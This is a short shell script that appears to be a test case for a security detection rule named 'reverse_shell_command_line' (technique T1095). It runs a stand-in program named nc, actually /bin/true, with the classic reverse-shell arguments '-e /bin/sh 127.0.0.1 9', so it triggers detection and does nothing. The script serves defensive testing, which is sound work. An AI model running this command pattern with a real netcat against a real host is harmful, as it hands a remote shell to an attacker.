#!/bin/sh
# what: Asks a program called nc to give a shell to the network; it does nothing.
# rule: reverse_shell_command_line
# technique: T1095
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/nc"
"$d/nc" -e /bin/sh 127.0.0.1 9
